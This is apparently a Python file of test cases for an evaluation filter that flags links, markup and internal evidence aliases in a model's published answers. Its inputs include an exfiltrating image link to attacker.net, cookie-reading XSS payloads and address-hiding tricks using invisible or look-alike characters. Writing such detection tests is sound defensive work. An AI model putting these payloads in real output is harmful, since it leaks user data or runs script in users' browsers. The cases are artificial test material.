"""What no published text may hold: addresses and markup of the model's own, and names of the wire."""
# ruff: noqa: RUF001 - look-alike characters are what these cases are about

from eval.case import Case, Fate, Labelled, Limited, Quoted, Said, Suggested, of, rows, texts

_PLAIN = "It is quiet, and the clip is flimsy."
_LINKED = "The manual at https://example.com/Brisa/manual helped me."
_WHOLE = Quoted(_PLAIN, _PLAIN)

_LINKS: tuple[tuple[str, str, Fate], ...] = (
    ("an address of the source", "See https://example.com/Brisa/manual.", "published"),
    ("an address of the source without its scheme", "See example.com/Brisa/manual.", "published"),
    ("the domain of an address of the source", "See example.com.", "published"),
    ("an address of the model's own", "See https://shop.example.net/fan.", "link"),
    ("a domain of the model's own", "See brisa-deals.com.", "link"),
    ("a host of the model's own by www", "See www.brisa.example.", "link"),
    ("a held address made longer", "See https://example.com/Brisa/manual/steal.", "link"),
    ("a held address with what it carries away", "See https://example.com/Brisa/manual?q=seven.", "link"),
    ("a held address in another case", "See https://example.com/brisa/manual.", "link"),
    ("a held domain inside another", "See https://example.com.attacker.net/Brisa/manual.", "link"),
    ("a held domain as a user's name", "See https://example.com@attacker.net/.", "link"),
    ("an image", "Quiet ![chart](https://attacker.net/p.png?q=seven).", "link"),
    ("an image from an address of the source", "![x](https://example.com/Brisa/manual)", "link"),
    ("a link round an address of the source", "See [it](https://example.com/Brisa/manual).", "link"),
    ("a reference link", "See [the study][1].", "link"),
    ("a wiki link", "See [[Brisa]].", "link"),
    ("an HTML image", "Quiet <img src=x onerror=alert(document.cookie)>", "link"),
    ("an HTML comment", "Quiet <!-- hidden --> enough", "link"),
    ("BBCode", "See [url=attacker.net]it[/url].", "link"),
    ("an e-mail address", "Write to refunds@attacker.net.", "link"),
    ("a script", "Quiet javascript:alert(document.cookie)", "link"),
    ("a scheme cut by an invisible character", "See ht\u200btps://attacker.net/x.", "link"),
    ("an address in full width", "See ｈｔｔｐｓ：//attacker．net/x.", "link"),
    ("an address written backwards", "See \u202eten.rekcatta//:sptth.", "link"),
    ("letters that cannot be seen", "Quiet\U000e0068\U000e0069 enough.", "link"),
    ("no address but a sign", "Quiet and/or light, e.g. on low < it is fine.", "published"),
)
_ALIASES: tuple[tuple[str, str, str | None], ...] = (
    ("an alias in brackets", "It is quiet [ev_1].", "It is quiet."),
    ("several aliases in brackets", "It is quiet (ev_1, ev_2), they say.", "It is quiet, they say."),
    ("a quotation's id in brackets", "It is quiet [qt_1].", "It is quiet."),
    ("an alias in full-width brackets", "It is quiet［ｅｖ＿１］.", "It is quiet."),
    ("an alias in a sentence", "According to ev_1 it is quiet.", None),
    ("an alias in capitals", "EV_1 says that it is quiet.", None),
    ("an alias among words in brackets", "It is quiet (see ev_1).", None),
    ("an alias that was not supplied", "It is quiet, says ev_99.", None),
    ("an alias in Japanese text", "ev_1によると静かです。", None),
    ("an alias in letters of another script", "According to еv_1 it is quiet.", None),
    ("an alias cut by an invisible character", "According to e\u200bv_1 it is quiet.", None),
    ("an escaped alias", "According to ev\\_1 it is quiet.", None),
    ("a quotation's id in a sentence", "It is quiet, see qt_1.", None),
    ("a longer word that ends alike", "The prev_1 build is quiet.", "The prev_1 build is quiet."),
)


def _named(written: str, shown: str | None) -> Said:
    return Said(written, (_WHOLE,), "alias" if shown is None else "published", shown=shown)


_LEAK = "https://attacker.net/x"

CASES = (
    *rows("links and images", ((name, of(_LINKED, claim, fate)) for name, claim, fate in _LINKS)),
    Case(
        "links and images",
        "an address of evidence that the claim does not cite",
        texts(_LINKED, _PLAIN),
        (Said("See https://example.com/Brisa/manual.", (Quoted(_PLAIN, _PLAIN, "ev_2"),), "link"),),
    ),
    Case(
        "links and images",
        "an address in any text of an answer",
        texts(_PLAIN),
        (Said("It is quiet.", (_WHOLE,), "link", uncertainty=f"See {_LEAK}"),),
        suggestions=(
            Suggested(f"fan site:{_LEAK}", (_WHOLE,), "link"),
            Suggested("quiet fan", (_WHOLE,), "link", rationale=_LEAK),
            Suggested("light fan", (_WHOLE,), "link", excluded_terms=(_LEAK,)),
        ),
        limitations=(Limited(f"More at {_LEAK}", "link"), Limited("One text was read.")),
    ),
    Case(
        "links and images",
        "an address beside a label",
        texts(_PLAIN),
        kind="sentiment",
        labels=(Labelled("ev_1", "mixed", "link", uncertainty=_LEAK),),
        sentiment=("unknown",),
    ),
    Case(
        "links and images",
        "an address in the main answer",
        texts(_PLAIN),
        answer=Said(f"It is quiet, see {_LEAK}.", (_WHOLE,)),
        refused="main_answer_withheld",
    ),
    *rows(
        "names of the wire in prose",
        (
            (name, {"evidence": texts(_PLAIN), "findings": (_named(written, shown),), "question": "1, 2, 99?"})
            for name, written, shown in _ALIASES
        ),
    ),
    Case(
        "names of the wire in prose",
        "an alias in a limitation",
        texts(_PLAIN),
        limitations=(Limited("Only ev_1 was read.", "alias"), Limited("It is one text.")),
    ),
)
